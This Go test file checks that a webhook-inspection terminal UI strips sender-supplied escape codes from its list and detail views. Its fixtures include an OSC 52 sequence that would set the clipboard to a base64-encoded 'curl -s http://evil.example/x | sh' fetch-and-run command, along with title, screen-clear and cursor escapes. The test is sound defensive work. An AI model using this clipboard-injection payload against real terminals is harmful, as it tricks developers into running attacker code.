package tui

import (
	"strings"
	"testing"
)

// TestListShowsNoEscapeCodesFromSenders: the event name is the webhook
// sender's to choose. The list writes it to the terminal as it is: an OSC 52
// sequence in it sets the developer's clipboard to a shell command (the
// base64 here is "curl -s http://evil.example/x | sh\n"), waiting to be
// pasted. Styling is off in these tests (TestMain), so every ESC or BEL in
// the view came from the delivery.
func TestListShowsNoEscapeCodesFromSenders(t *testing.T) {
	s := openStore(t)
	d := delivery(0)
	d.Action = "payable.\x1b]52;c;Y3VybCAtcyBodHRwOi8vZXZpbC5leGFtcGxlL3ggfCBzaAo=\x07created"
	d.EntityID = "ent_\x1b]0;owned\x07"
	d.Header.Set("X-Note", "a\x1b[2Jb")
	d.Body = []byte("plain text \x1b]52;c;Y3VybA==\x07 and \x1b[1A")
	if err := <-s.Insert(d); err != nil {
		t.Fatal(err)
	}
	m := newSized(t, testOptions(s))
	view := m.View()
	if strings.ContainsAny(view, "\x1b\x07") {
		i := strings.IndexAny(view, "\x1b\x07")
		t.Fatalf("the list view writes the sender's escape codes to the terminal: %q", view[max(0, i-20):min(len(view), i+80)])
	}
	// The detail: request line, headers and a text body.
	send(t, m, keyMsg("enter"))
	view = m.View()
	if !strings.Contains(view, "plain text") {
		t.Fatalf("no detail view:\n%s", view)
	}
	if strings.ContainsAny(view, "\x1b\x07") {
		i := strings.IndexAny(view, "\x1b\x07")
		t.Fatalf("the detail view writes the sender's escape codes to the terminal: %q", view[max(0, i-20):min(len(view), i+80)])
	}
}
